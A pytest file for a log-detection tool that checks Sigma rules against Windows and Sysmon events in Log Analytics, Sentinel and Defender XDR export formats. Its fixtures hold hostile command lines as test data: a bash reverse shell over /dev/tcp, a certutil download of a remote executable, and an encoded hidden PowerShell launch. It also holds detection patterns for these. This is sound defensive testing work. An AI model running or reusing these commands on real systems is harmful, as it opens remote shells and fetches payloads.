"""Sigma rules on the Windows event shapes found in the wild beyond evtx_dump and Winlogbeat:
Log Analytics / Sentinel rows (EventData as JSON or XML text, Syslog rows carrying a Sysmon for Linux
`<Event>` XML), and the value shapes rules compare against (`%%` message codes, …).

Events are built the way those exports write them; the realdata checks read the real files from
../shared (never copied into the repo)."""

from __future__ import annotations

import json
from pathlib import Path

from _ingest_helpers import log_lines
from _rule_events import security
from _sigma_helpers import shared_dir, sigma_dir

from logwarden.app.detect import Detector, load_rules
from logwarden.app.detect.logsource import route_of
from logwarden.app.events import LogLine
from logwarden.app.parse import detect_format, parse_lines, parse_stream

SYSMON_LINUX_XML = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
    '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2022-05-11T18:10:22.018Z"/>'
    "<EventRecordID>245760</EventRecordID><Correlation/><Execution ProcessID=\"1590\" ThreadID=\"1590\"/>"
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer><Security UserId=\"0\"/></System>"
    '<EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">17794</Data>'
    '<Data Name="Image">/bin/bash</Data><Data Name="CommandLine">bash -c bash -i &gt;&amp; /dev/tcp/192.168.2.6/443 0&gt;&amp;1</Data>'
    '<Data Name="User">tomcat</Data><Data Name="ParentImage">/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java</Data>'
    "</EventData></Event>")


def syslog_row(message: str) -> dict:
    """A row of Log Analytics' Syslog table as an export writes it."""
    return {"TenantId": "redacted", "SourceSystem": "Linux", "TimeGenerated": "2022-05-11T18:10:22.4Z",
            "Computer": "UBUNTU5", "EventTime": "2022-05-11T18:10:22Z", "Facility": "user", "HostName": "UBUNTU5",
            "SeverityLevel": "info", "SyslogMessage": message, "HostIP": "192.168.2.5", "ProcessName": "sysmon",
            "Type": "Syslog"}


def windows_event_row(event_id: int, data: dict) -> dict:
    """A row of Log Analytics' WindowsEvent table: EventData is a JSON string."""
    return {"TenantId": "redacted", "SourceSystem": "OpsManager", "TimeGenerated": "2022-05-13T08:54:06.347Z",
            "Provider": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "WORKSTATION5", "Task": 1, "EventLevel": 4, "EventLevelName": "Information",
            "EventData": json.dumps(data), "EventID": event_id, "Type": "WindowsEvent"}


def security_event_row(event_id: int, data: dict) -> dict:
    """A row of Log Analytics' SecurityEvent table: EventData is the `<EventData>` XML."""
    xml = "".join(f'\r\n  <Data Name="{k}">{v}</Data>' for k, v in data.items())
    return {"TenantId": "redacted", "TimeGenerated": "2022-05-13T08:54:05.21Z", "SourceSystem": "OpsManager",
            "Computer": "WORKSTATION5", "EventSourceName": "Microsoft-Windows-Security-Auditing",
            "Channel": "Security", "Task": 1, "Level": "0", "EventID": event_id, "Type": "SecurityEvent",
            "EventData": f'<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">{xml}\r\n</EventData>'}


def parsed(*rows: dict) -> list:
    _decision, events = parse_stream(log_lines([json.dumps(r) for r in rows]))
    return events


def rule_file(tmp_path: Path, logsource: str, detection: str, name: str = "t-rule") -> Path:
    path = tmp_path / f"{name}.yml"
    body = "\n".join("  " + line for line in detection.strip("\n").splitlines())
    path.write_text(f"title: {name}\nname: {name}\nlevel: high\nlogsource: {logsource}\ndetection:\n{body}\n")
    return path


def fired(paths: list[Path], events: list) -> set[str]:
    return {s.rule_id for s in Detector(load_rules(paths)).scan(events)}


# --- Log Analytics / Sentinel rows -------------------------------------------------------------


def test_a_syslog_row_carrying_sysmon_for_linux_xml_is_a_linux_sysmon_event(tmp_path):
    [event] = parsed(syslog_row(SYSMON_LINUX_XML))
    assert event.format == "windows"
    f = event.fields
    assert (f["EventID"], f["Channel"], f["Image"], f["User"]) == (1, "Linux-Sysmon/Operational", "/bin/bash", "tomcat")
    assert f["CommandLine"] == "bash -c bash -i >& /dev/tcp/192.168.2.6/443 0>&1"  # XML entities decoded
    route = route_of(event)
    assert "linux" in route.products and "process_creation" in route.categories
    path = rule_file(tmp_path, "{product: linux, category: process_creation}",
                     "selection:\n  CommandLine|contains: '/dev/tcp/'\ncondition: selection")
    assert fired([path], [event]) == {"t-rule"}


def test_a_syslog_row_with_plain_text_or_a_dtd_is_not_read_as_an_event():
    plain, dtd = parsed(syslog_row("pam_unix(cron:session): session opened for user root"),
                        syslog_row('<!DOCTYPE x [<!ENTITY a "aaaa">]><Event><System><EventID>1</EventID>'
                                   "</System></Event>"))
    assert plain.format == dtd.format == "json"  # an entity is never expanded: the XML is refused


def test_windowsevent_table_eventdata_json_string_gives_sysmon_fields(tmp_path):
    data = {"RuleName": "-", "ProcessId": "7716", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell -nop -w hidden -enc SQBFAFgA", "ParentImage": "C:\\tomcat\\bin\\tomcat9.exe"}
    [event] = parsed(windows_event_row(1, data))
    assert event.fields["Image"].endswith("powershell.exe") and "EventData" not in event.fields
    path = rule_file(tmp_path, "{product: windows, category: process_creation}",
                     "selection:\n  ParentImage|endswith: '\\tomcat9.exe'\n  CommandLine|contains: ' -enc '\n"
                     "condition: selection")
    assert fired([path], [event]) == {"t-rule"}


def test_securityevent_table_eventdata_xml_gives_4688_fields(tmp_path):
    data = {"NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami /all",
            "ParentProcessName": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "SubjectUserName": "svc"}
    [event] = parsed(security_event_row(4688, data))
    assert event.fields["NewProcessName"].endswith("cmd.exe") and event.fields["EventID"] == 4688
    path = rule_file(tmp_path, "{product: windows, category: process_creation}",
                     "selection:\n  ParentImage|endswith: '\\WmiPrvSE.exe'\n  Image|endswith: '\\cmd.exe'\n"
                     "condition: selection")
    assert fired([path], [event]) == {"t-rule"}


def test_eventdata_text_that_is_neither_json_nor_xml_is_kept_as_is():
    row = windows_event_row(1, {})
    row["EventData"] = "not structured"
    [event] = parsed(row)
    assert event.fields["EventData"] == "not structured"


def test_realdata_log_analytics_sysmon_for_linux_rows_meet_sigmahq_rules():
    """OTRF's Log4Shell recording through Log Analytics: the Syslog rows wrap Sysmon for Linux XML,
    on which SigmaHQ's Linux reverse-shell rule must fire."""
    source = shared_dir() / "realdata" / "otrf" / "compound" / "Log4Shell"
    [path] = source.glob("syslog_sysmon_log4shell_*.json")
    lines = path.read_text().splitlines()
    assert detect_format(lines, str(path)).name == "windows"
    events = list(parse_lines(log_lines(lines, str(path)), "windows"))
    assert sum(e.fields.get("Channel") == "Linux-Sysmon/Operational" for e in events) > 50
    rule = sigma_dir() / "rules" / "linux" / "network_connection" / "net_connection_lnx_back_connect_shell_dev.yml"
    assert "Linux Reverse Shell Indicator" in {s.title for s in Detector(load_rules([rule])).scan(events)}


# --- value shapes --------------------------------------------------------------------------------


def firewall_rule_added(application_path: str, modifying_application: str) -> dict:
    """Windows Firewall event 2004 as evtx_dump writes it (an empty <Data> is "")."""
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Windows Firewall With Advanced Security"}},
                                 "EventID": 2004, "Channel": "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
                                 "Computer": "jump01.offsec.lan",
                                 "TimeCreated": {"#attributes": {"SystemTime": "2021-06-03T13:05:20.2Z"}}},
                      "EventData": {"RuleId": "{48A712F0-078E-4A6C-AA87-2545E5F432BA}", "RuleName": "any any",
                                    "ApplicationPath": application_path, "Direction": 1, "Action": 3,
                                    "LocalAddresses": "*", "RemoteAddresses": "*",
                                    "ModifyingApplication": modifying_application}}}


def test_null_is_an_absent_field_and_an_empty_value_is_not_null():
    """SigmaHQ's "Uncommon New Firewall Rule Added" filters `ApplicationPath: null` and, for
    svchost/dllhost only, `ApplicationPath: ''`: a rule for every program added by an admin tool."""
    rule = sigma_dir() / "rules" / "windows" / "builtin" / "firewall_as" / "win_firewall_as_add_rule.yml"
    by_mmc, by_svchost = parsed(firewall_rule_added("", "C:\\Windows\\System32\\mmc.exe"),
                                firewall_rule_added("", "C:\\Windows\\System32\\svchost.exe"))
    assert by_mmc.fields["ApplicationPath"] == ""
    detector = Detector(load_rules([rule]))
    assert [s.title for s in detector.scan([by_mmc])] == ["Uncommon New Firewall Rule Added In Windows Firewall Exception List"]
    assert detector.scan([by_svchost]) == []  # the benign counterpart the rule's own filter drops


def share_access(relative_target: str, access_list: str) -> dict:
    """Security 5145 (detailed file share) as evtx_dump writes it: AccessList holds `%%` codes."""
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                                 "EventID": 5145, "Channel": "Security", "Computer": "fs01.corp.local",
                                 "TimeCreated": {"#attributes": {"SystemTime": "2021-06-10T21:21:26.36Z"}}},
                      "EventData": {"SubjectUserName": "admmig", "SubjectDomainName": "CORP", "ObjectType": "File",
                                    "IpAddress": "10.23.123.11", "ShareName": "\\\\*\\IPC$", "ShareLocalPath": "",
                                    "RelativeTargetName": relative_target, "AccessMask": "0x3",
                                    "AccessList": access_list, "AccessReason": "-"}}}


def test_message_codes_are_also_seen_as_their_text(tmp_path):
    """SigmaHQ's atsvc rule reads `AccessList|contains: WriteData`, others `'%%4417'`: both forms match."""
    rules = [sigma_dir() / "rules" / "windows" / "builtin" / "security" / name
             for name in ("win_security_atsvc_task.yml", "win_security_svcctl_remote_service.yml")]
    write, read_only = parsed(share_access("atsvc", "%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t"),
                              share_access("atsvc", "%%4416\r\n\t\t\t\t"))
    assert write.fields["AccessList"] == "%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t"  # the event keeps what it said
    detector = Detector(load_rules(rules))
    assert {s.title for s in detector.scan([write])} == {"Remote Task Creation via ATSVC Named Pipe"}
    assert detector.scan([read_only]) == []  # reading the pipe is not creating a task
    coded = rule_file(tmp_path, "{product: windows, service: security}",
                      "selection:\n  AccessList|contains: '%%4417'\ncondition: selection")
    assert fired([coded], [write]) == {"t-rule"} and fired([coded], [read_only]) == set()


def test_log_analytics_event_table_rows_route_by_their_eventlog_column():
    """Log Analytics' Event table keeps the channel in `EventLog` and the provider in `Source`: a Sysmon
    row routes as Sysmon (here event 18, pipe_created), not as a channel-less Windows event."""
    row = {"TimeGenerated": "2021-08-02T13:05:32.77Z", "Source": "Microsoft-Windows-Sysmon",
           "EventLog": "Microsoft-Windows-Sysmon/Operational", "Computer": "ADFS01.corp.local", "EventID": "18",
           "RenderedDescription": "Pipe Connected", "Type": "Event", "EventType": "ConnectPipe",
           "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           "PipeName": "\\MICROSOFT##WID\\tsql\\query"}
    [event] = parse_lines([LogLine("event.json", 0, 0, 1, json.dumps(row))], "windows")
    route = route_of(event)
    assert "sysmon" in route.services and "pipe_created" in route.categories
    assert event.fields["PipeName"] == "\\MICROSOFT##WID\\tsql\\query" and "EventLog" not in event.fields


# --- Microsoft Defender XDR rows (advanced hunting export, Sentinel's Device* tables) ------------

XDR_PROCESS = {"Timestamp": "2024-05-01T10:00:00Z", "DeviceName": "ws01.corp.local", "ActionType": "ProcessCreated",
               "FileName": "certutil.exe", "FolderPath": "C:\\Windows\\System32\\certutil.exe",
               "ProcessCommandLine": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
               "ProcessVersionInfoOriginalFileName": "CertUtil.exe", "AccountName": "alice",
               "InitiatingProcessFolderPath": "C:\\Windows\\System32\\cmd.exe", "InitiatingProcessFileName": "cmd.exe",
               "InitiatingProcessCommandLine": "cmd.exe /c run.bat"}
XDR_REGISTRY = {"Timestamp": "2024-05-01T10:00:05Z", "DeviceName": "ws01.corp.local", "ActionType": "RegistryValueSet",
                "RegistryKey": "HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "RegistryValueName": "updater", "RegistryValueData": "C:\\Users\\Public\\a.exe",
                "InitiatingProcessFolderPath": "C:\\Windows\\System32\\reg.exe"}
XDR_PROCESS_RULE = """title: t-proc
name: t-proc
level: high
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\\\certutil.exe'
    OriginalFileName: CertUtil.exe
    CommandLine|contains: urlcache
    ParentImage|endswith: '\\\\cmd.exe'
  condition: selection
"""


def run_key_rule(hive: str) -> str:
    """A registry_set rule on a Run value written under `hive`, in Sysmon's TargetObject form."""
    return f"""title: t-run
name: t-run
level: high
logsource: {{product: windows, category: registry_set}}
detection:
  selection:
    TargetObject|startswith: '{hive}\\\\'
    TargetObject|endswith: '\\\\CurrentVersion\\\\Run\\\\updater'
    Details|startswith: 'C:\\\\Users\\\\Public\\\\'
  condition: selection
"""


def test_defender_xdr_rows_route_as_windows_process_and_registry_events_in_sysmon_field_names(tmp_path):
    pack = tmp_path / "xdr.yml"
    pack.write_text(XDR_PROCESS_RULE + "---\n" + run_key_rule("HKU"))
    rules = load_rules([pack])
    sentinel = {**XDR_PROCESS, "Type": "DeviceProcessEvents"}
    rows = [XDR_PROCESS, XDR_REGISTRY, sentinel]
    events = list(parse_lines(log_lines([json.dumps(r) for r in rows], "xdr.json"), "json"))
    assert "process_creation" in route_of(events[0]).categories and "windows" in route_of(events[0]).products
    assert {"registry_set", "registry_event"} <= route_of(events[1]).categories
    signals = Detector(rules).scan(events)
    assert sorted((s.rule_id, tuple(s.line_numbers)) for s in signals) == [("t-proc", (1, 3)), ("t-run", (2,))]
    # an ordinary certutil call and another Run value stay quiet
    quiet = [{**XDR_PROCESS, "ProcessCommandLine": "certutil.exe -hashfile report.pdf SHA256"},
             {**XDR_REGISTRY, "RegistryValueName": "OneDrive"}]
    assert Detector(rules).scan(list(parse_lines(log_lines([json.dumps(r) for r in quiet], "xdr.json"), "json"))) == []


def test_security_4657_value_writes_read_as_sysmon_registry_set(tmp_path):
    """A 4657 keeps the key (`\\REGISTRY\\MACHINE\\…`) and the value's name apart; registry_set
    rules read Sysmon's TargetObject (`HKLM\\…\\key\\value`) and Details."""
    pack = tmp_path / "run.yml"
    pack.write_text(run_key_rule("HKLM"))
    write = security(4657, {"SubjectUserName": "alice", "SubjectDomainName": "CORP", "ObjectName":
                            "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                            "ObjectValueName": "updater", "OperationType": "%%1905", "NewValue": "C:\\Users\\Public\\a.exe",
                            "ProcessName": "C:\\Windows\\System32\\reg.exe"})
    assert "registry_set" in route_of(write).categories
    assert [s.rule_id for s in Detector(load_rules([pack])).scan([write])] == ["t-run"]
    other = security(4657, {**write.fields, "ObjectValueName": "OneDrive"}, line_no=2)
    assert Detector(load_rules([pack])).scan([other]) == []
